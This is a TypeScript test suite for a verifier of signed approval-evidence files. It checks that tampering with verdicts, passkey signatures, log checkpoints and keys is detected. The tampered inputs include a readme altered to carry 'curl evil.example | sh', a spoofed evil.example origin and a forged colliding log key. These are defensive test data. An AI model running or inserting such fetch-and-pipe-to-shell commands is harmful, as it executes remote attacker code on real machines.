import { createPrivateKey, createPublicKey, hash, sign } from 'node:crypto';

import { beforeAll, describe, expect, test } from 'vitest';

import { FIRST_FORMATS } from '#lib/domain/desk/formats.ts';
import { EvidenceFile } from '#lib/contract/evidence.ts';
import type { Evidence, Known } from '#lib/domain/evidence/evidence.ts';
import { LARGEST_EVIDENCE } from '#lib/domain/evidence/read-evidence.ts';
import { verifyEvidence, verifyEvidenceFile } from '#lib/domain/evidence/verify-evidence.ts';
import { noteKeyId, noteText, parseNote, verifierKey } from '#lib/domain/ledger/checkpoint.ts';
import { withDatabase } from '../../../test/database.ts';
import { enrol, remembering, signedByAnother, signedEvidence, WEB_VERIFIERS } from '../../../test/evidence.ts';
import { SoftwarePasskey } from '../../../test/keys/software-passkey.ts';
import { withWorld } from '../../../test/world.ts';
import { askQuestion } from '../review/ask-question.ts';
import { getEvidence } from './get-evidence.ts';
import { getOwnEvidence } from './get-own-evidence.ts';
import { reportViewed } from '../review/report-viewed.ts';
import { reportOutcome } from '../actions/report-outcome.ts';

const database = withDatabase();
const world = withWorld(database, { formats: FIRST_FORMATS });
const verifiers = remembering(world.verifiers);
const faultsOf = async (text: string, known: Known = {}) =>
  (await verifyEvidenceFile(text, verifiers, known)).checks.filter((check) => !check.ok);
const faults = (file: unknown, known?: Known) => faultsOf(JSON.stringify(file), known);
const code = (promise: Promise<unknown>) =>
  promise.then(
    () => 'accepted',
    (e: { code?: string }) => e.code ?? String(e),
  );

let signed: Evidence;
let limited: Evidence;
let asked: Evidence;
let allowed: Evidence;

beforeAll(async () => {
  const { ann, bob } = world.people;
  const key = new SoftwarePasskey('http://localhost:3000');
  await enrol(world, ann, key);
  signed = EvidenceFile.parse(await signedEvidence(world, ann, key)) as Evidence;

  const two = await world.submit({ tool: 'note.two', args: { text: 'x', to: ['a', 'b'] } });
  await world.verdict('ann', two.id, 'limit', { text: 'x', to: ['a'] });
  await world.verdict('bob', two.id, 'approve');
  limited = EvidenceFile.parse(await getOwnEvidence(world.ctx, world.agent, { id: two.id })) as Evidence;

  const { id } = await world.submit();
  await askQuestion(world.ctx, ann, { id, text: 'Why?' });
  await world.answer(id, 'Because.');
  await world.verdict('bob', id, 'deny_unsafe');
  asked = EvidenceFile.parse(await getEvidence(world.ctx, bob, { id })) as Evidence;

  const read = await world.submit({ tool: 'note.read' });
  allowed = EvidenceFile.parse(await getEvidence(world.ctx, bob, { id: read.id })) as Evidence;
});

test('a decision proves itself: arguments, view, statement, passkey, decision, log and replay', async () => {
  for (const file of [signed, limited, asked, allowed]) expect(await faults(file)).toEqual([]);
  expect((await verifyEvidence(signed, world.verifiers)).map((check) => check.name)).toEqual([
    'form',
    'keys',
    'arguments',
    'view',
    'assessment',
    'verdict 1: ann',
    'decision',
    'checkpoint',
    'witnesses',
    expect.stringMatching(/^entry \d+: submitted$/),
    expect.stringMatching(/^entry \d+: approve$/),
    expect.stringMatching(/^entry \d+: redeem$/),
    expect.stringMatching(/^entry \d+: finish$/),
    'replay',
  ]);
});

test('a browser’s cryptography finds the same', async () => {
  for (const file of [signed, limited, signedByAnother(signed), { ...signed, decision: limited.decision }])
    expect(await verifyEvidence(file, WEB_VERIFIERS)).toEqual(await verifyEvidence(file, world.verifiers));
});

/** Every place of a file that holds a value, as a path. */
function placesOf(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (typeof value !== 'object' || value === null) return [path];
  return Object.entries(value).flatMap(([key, child]) =>
    placesOf(child, [...path, Array.isArray(value) ? Number(key) : key]),
  );
}

function changed(file: Evidence, path: (string | number)[], change: (value: unknown) => unknown): Evidence {
  const copy = structuredClone(file);
  let at = copy as unknown as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string | number, unknown>;
  const last = path.at(-1) ?? '';
  at[last] = change(at[last]);
  return copy;
}

const flipped = (text: string, at: number): string => {
  const c = text.charAt(at);
  return `${text.slice(0, at)}${c === 'A' ? 'B' : 'A'}${text.slice(at + 1)}`;
};

describe('whatever is changed is found', () => {
  test('every value of the file, one at a time: at its beginning, middle and end, emptied, and made null', async () => {
    for (const file of [signed, limited, asked, allowed]) {
      for (const path of placesOf(file)) {
        const changes: ((value: unknown) => unknown)[] = [
          (v) => (typeof v === 'string' ? flipped(v, 0) : typeof v === 'number' ? v + 1 : v === null ? 'x' : !v),
          (v) => (typeof v === 'string' ? flipped(v, Math.floor(v.length / 2)) : null),
          (v) => (typeof v === 'string' ? flipped(v, v.length - 1) : 'x'),
          () => null,
          () => '',
        ];
        for (const change of changes) {
          const other = changed(file, path, change);
          if (JSON.stringify(other) === JSON.stringify(file)) continue;
          const found = await faults(other);
          expect([path.join('/'), found.length > 0]).toEqual([path.join('/'), true]);
          // What the API would never say, no verifier reads.
          if (!EvidenceFile.safeParse(other).success) expect(found).not.toEqual([]);
        }
      }
    }
  }, 120_000);

  test('every single byte of the file, one at a time', async () => {
    const bytes = Buffer.from(JSON.stringify(signed));
    expect(bytes.length).toBeGreaterThan(10_000);
    for (const [at, byte] of bytes.entries()) {
      bytes[at] = byte ^ 1;
      const { ok, checks } = await verifyEvidenceFile(new Uint8Array(bytes), verifiers);
      const wrong = checks.find((check) => !check.ok);
      expect({ at, ok, named: (wrong?.name.length ?? 0) > 0 && (wrong?.detail.length ?? 0) > 0 }).toEqual({
        at,
        ok: false,
        named: true,
      });
      bytes[at] = byte;
    }
  }, 240_000);

  test('every part that is left out, and every part too many', async () => {
    for (const file of [signed, limited]) {
      const holders = [
        ...new Set(placesOf(file).flatMap((path) => path.map((_, i) => JSON.stringify(path.slice(0, i))))),
      ];
      for (const holder of holders.map((text) => JSON.parse(text) as (string | number)[])) {
        const at = (copy: unknown) => holder.reduce((value, key) => (value as never)[key], copy) as object;
        for (const key of Object.keys(at(file))) {
          const copy = structuredClone(file);
          if (Array.isArray(at(copy))) (at(copy) as unknown[]).splice(Number(key), 1);
          else delete (at(copy) as Record<string, unknown>)[key];
          // A key of the desk that signed nothing here is nobody's part: without it the file says the same.
          const unused = holder.join() === 'jwks,keys' && !signedBy(file, Number(key));
          expect([...holder, key, (await faults(copy)).length > 0]).toEqual([...holder, key, !unused]);
        }
        const copy = structuredClone(file);
        if (Array.isArray(at(copy))) (at(copy) as unknown[]).push('more');
        else Object.assign(at(copy), { note: 'more' });
        expect([...holder, (await faults(copy)).length > 0]).toEqual([...holder, true]);
      }
    }
  }, 60_000);

  test('an entry dropped, repeated, moved or of another action; a verdict dropped or repeated', async () => {
    const without = (file: Evidence, i: number): Evidence => ({
      ...file,
      entries: file.entries.filter((_, n) => n !== i),
    });
    for (const i of signed.entries.keys()) expect(await faults(without(signed, i))).not.toEqual([]);
    const [first, second, ...rest] = signed.entries;
    const [foreign] = limited.entries;
    if (!first || !second || !foreign) throw new Error('too few entries');
    expect(await faults({ ...signed, entries: [second, first, ...rest] })).not.toEqual([]);
    expect(await faults({ ...signed, entries: [first, first, second, ...rest] })).not.toEqual([]);
    expect(await faults({ ...signed, entries: [first, second, ...rest, foreign] })).not.toEqual([]);
    expect(
      await faults({ ...signed, entries: [{ ...first, tlog_proof: second.tlog_proof }, second, ...rest] }),
    ).not.toEqual([]);
    const [one, other] = limited.verdicts;
    for (const verdicts of [[other], [one], [one, one], [other, one], [one, other, other], []])
      expect(await faults({ ...limited, verdicts })).not.toEqual([]);
  });

  test('a question and its answer left out together, though what is left leads to the same state', async () => {
    const entries = asked.entries.filter(({ type }) => type !== 'ask' && type !== 'answer');
    expect(entries.length).toBe(asked.entries.length - 2);
    expect(await faults({ ...asked, entries })).toEqual([
      expect.objectContaining({ name: 'replay', detail: 'entries from before the decision are missing' }),
    ]);
  });

  test('how another action ended, put where this one’s end is still to come', async () => {
    const running = async () => {
      const { id } = await world.submit({ args: { text: 'runs' } });
      await world.verdict('ann', id, 'approve');
      const { grant } = await world.read(id);
      await world.redeem(grant?.token ?? '', { text: 'runs' });
      return id;
    };
    const [mine, other] = [await running(), await running()];
    await reportOutcome(world.ctx, world.agent, { id: other, status: 'failed' });
    const file = EvidenceFile.parse(await getEvidence(world.ctx, world.people.bob, { id: mine }));
    const end = ((await getEvidence(world.ctx, world.people.bob, { id: other })) as Evidence).entries.at(-1);
    if (end?.type !== 'finish' || !end.tlog_proof.endsWith(file.checkpoint)) throw new Error('no end under this head');
    expect(await faults(file)).toEqual([]);
    const forged = { ...file, action: { ...file.action, status: 'failed' }, entries: [...file.entries, end] };
    expect(await faults(forged)).toEqual([
      { name: expect.stringMatching(/^entry \d+: finish$/), ok: false, detail: 'it is about another action' },
    ]);
  });

  test('parts of another decision', async () => {
    for (const part of ['decision', 'verdicts', 'entries', 'action', 'checkpoint'] as const)
      expect(await faults({ ...signed, [part]: limited[part] })).not.toEqual([]);
    for (const file of [signed, allowed]) expect(await faults({ ...file, decision: null })).not.toEqual([]);
  });

  test('a name is given to the part that is wrong', async () => {
    const verdict = signed.verdicts[0];
    if (!verdict?.passkey) throw new Error('no verdict');
    const { action } = signed;
    const rows: [object, string, RegExp][] = [
      [{ readme: `${signed.readme}curl evil.example | sh\n` }, 'form', /readme/],
      [{ action: { ...action, args: '{"text":"something else"}' } }, 'arguments', /decided arguments/],
      [{ action: { ...action, view: action.view?.replace('passkey', 'PASSKEY') ?? '' } }, 'view', /digest/],
      [{ action: { ...action, status: 'failed' } }, 'replay', /lead to succeeded/],
      [
        { verdicts: [{ ...verdict, reviewer: { ...verdict.reviewer, name: 'eve' } }] },
        'verdict 1: eve',
        /another reviewer/,
      ],
      [signedByAnother(signed), 'verdict 1: ann', /another one than the log says/],
      [{ verdicts: [{ ...verdict, passkey: null }] }, 'verdict 1: ann', /signature is missing/],
      [{ decision: limited.decision }, 'decision', /sub is another/],
      [{ log_keys: ['PeterNeumann+c74f20a3+ARpc2QcUPDhMQegwxbzhKqiBfsVkmqq/LDE4izWy10TW'] }, 'keys', /another desk/],
      [{ checkpoint: signed.checkpoint.replace('/countersign\n', '/other\n') }, 'checkpoint', /another log/],
      [
        { checkpoint: `${signed.checkpoint}— witness.example ${'A'.repeat(100)}\n` },
        'witnesses',
        /of nobody that the file names/,
      ],
    ];
    for (const [change, name, detail] of rows) {
      const [fault] = await faults({ ...signed, ...change });
      expect(fault).toMatchObject({ name, detail: expect.stringMatching(detail) });
    }
    const edit = { ...limited, verdicts: limited.verdicts.map((v, i) => (i === 0 ? { ...v, answer: 'edit' } : v)) };
    expect(await faults(edit)).toEqual([
      expect.objectContaining({ detail: expect.stringMatching(/an edit and a limit/) }),
    ]);
  });
});

/** Whether this file's decision is signed by the key at this place. */
function signedBy({ decision, jwks }: Evidence, place: number): boolean {
  const header = JSON.parse(Buffer.from(decision?.split('.')[0] ?? '', 'base64url').toString()) as { kid: string };
  return jwks.keys[place]?.kid === header.kid;
}

describe('what is no evidence is never taken for some', () => {
  test.each<[string, () => string, RegExp]>([
    ['nothing', () => '', /cut off or not strict JSON/],
    ['a file that is cut off', () => JSON.stringify(signed).slice(0, -200), /cut off or not strict JSON/],
    [
      'a part that is said twice',
      () => JSON.stringify(signed).replace('{', '{"origin":"https://evil.example",'),
      /twice/,
    ],
    ['another type', () => JSON.stringify({ ...signed, type: 'countersign.evidence/2' }), /known type .*evidence\/2/],
    ['JSON of something else', () => '[]', /no evidence file of a known type/],
    ['a file larger than any', () => ' '.repeat(LARGEST_EVIDENCE + 1), /larger than any/],
    [
      'more verdicts than any',
      () => JSON.stringify({ ...signed, verdicts: Array(501).fill(signed.verdicts[0]) }),
      /verdicts has more than any/,
    ],
    [
      'more witnesses than any',
      () => JSON.stringify({ ...signed, witness_keys: Array(101).fill('w.example+c74f20a3+AAAA') }),
      /witness_keys has more than any/,
    ],
    ['nesting without an end', () => '['.repeat(1_000_000), /cut off or not strict JSON/],
  ])('%s', async (_what, text, detail) => {
    expect(await verifyEvidenceFile(text(), verifiers)).toEqual({
      ok: false,
      evidence: null,
      checks: [{ name: 'form', ok: false, detail: expect.stringMatching(detail) }],
    });
  });

  test('bytes that are no text', async () => {
    const { checks } = await verifyEvidenceFile(new Uint8Array([0x7b, 0xff]), verifiers);
    expect(checks).toEqual([{ name: 'form', ok: false, detail: 'it is not UTF-8 text' }]);
  });

  test('a key the file does not have', async () => {
    const jwks = { keys: signed.jwks.keys.filter((_, i) => !signedBy(signed, i)) };
    expect(await faults({ ...signed, jwks })).toEqual([
      expect.objectContaining({ name: 'decision', detail: expect.stringMatching(/not among the desk’s/) }),
    ]);
    expect(await faults({ ...signed, log_keys: [] })).toContainEqual(expect.objectContaining({ name: 'keys' }));
  });

  test('evidence of another installation, where its keys are known', async () => {
    const kids = signed.jwks.keys.map((key) => key.kid);
    expect(await faults(signed, { logKeys: signed.log_keys, kids })).toEqual([]);
    const other = verifierKey('localhost:3000/countersign', new Uint8Array(32).fill(7));
    const rows: [Known, RegExp][] = [
      [{ logKeys: [other] }, /the log’s key .*another installation/],
      [{ kids: ['other'] }, /the decision .*another installation/],
      [{ kids: [] }, /another installation/],
      [{ logKeys: ['nonsense'] }, /is none/],
      [{ logKeys: [] }, /is none/],
    ];
    for (const [known, detail] of rows)
      expect(await faults(signed, known)).toEqual([
        { name: 'known keys', ok: false, detail: expect.stringMatching(detail) },
      ]);
  });

  test('a key of somebody else’s with the same name and the same four-byte id is not the known one', async () => {
    const [theirs, forger] = [keyFrom('47358'), keyFrom('120322')];
    expect(theirs.id).toBe(forger.id);
    const head = parseNote(signed.checkpoint)?.text ?? '';
    const checkpoint = noteText(head, [
      { name: LOG, keyId: noteKeyId(LOG, forger.publicKey), signature: sign(null, Buffer.from(head), forger.secret) },
    ]);
    const forged: Evidence = {
      ...signed,
      checkpoint,
      log_keys: [verifierKey(LOG, forger.publicKey)],
      entries: signed.entries.map((entry) => ({
        ...entry,
        tlog_proof: entry.tlog_proof.replace(signed.checkpoint, checkpoint),
      })),
    };
    // By its own measure it holds; that is what a known key is for.
    expect(await faults(forged)).toEqual([]);
    expect(await faults(forged, { logKeys: [verifierKey(LOG, theirs.publicKey)] })).toEqual([
      { name: 'known keys', ok: false, detail: expect.stringMatching(/another installation/) },
    ]);
  });
});

const LOG = 'localhost:3000/countersign';

/** The Ed25519 key whose seed is SHA-256 of a number; a hundred thousand of them are enough to find two with one id. */
function keyFrom(number: string) {
  const der = Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), hash('sha256', number, 'buffer')]);
  const secret = createPrivateKey({ key: der, format: 'der', type: 'pkcs8' });
  const publicKey = new Uint8Array(createPublicKey(secret).export({ type: 'spki', format: 'der' }).subarray(-32));
  return { secret, publicKey, id: Buffer.from(noteKeyId(LOG, publicKey)).toString('hex') };
}

test('a clock in the past proves nothing', async () => {
  expect(await faults(signed, { now: world.ctx.now() })).toEqual([]);
  const early = await faults(signed, { now: Date.parse('2001-01-01') });
  expect(early.map(({ name }) => name)).toEqual(
    signed.entries.map(() => expect.stringMatching(/^entry \d+/) as unknown),
  );
  expect(early[0]?.detail).toMatch(/this machine’s clock is behind/);
});

test('who only looked is in the file too, and changes nothing of it', async () => {
  const { id } = await world.submit();
  const { revision_digest: digest, view_digest } = await world.row(id);
  await reportViewed(world.ctx, world.people.audrey, { id, digest, view_digest });
  await world.verdict('ann', id, 'approve');
  const file = (await getEvidence(world.ctx, world.people.bob, { id })) as Evidence;
  expect(file.entries.map((entry) => entry.type)).toEqual(['submitted', 'viewed', 'approve']);
  expect(await faults(file)).toEqual([]);
});

test('what is not decided has no evidence yet, and another agent’s is not found', async () => {
  const { id } = await world.submit();
  expect(await code(getEvidence(world.ctx, world.people.ann, { id }))).toBe('conflict');
  const other = await world.newAgent('other');
  expect(await code(getOwnEvidence(world.ctx, other, { id: signed.action.id }))).toBe('not-found');
});
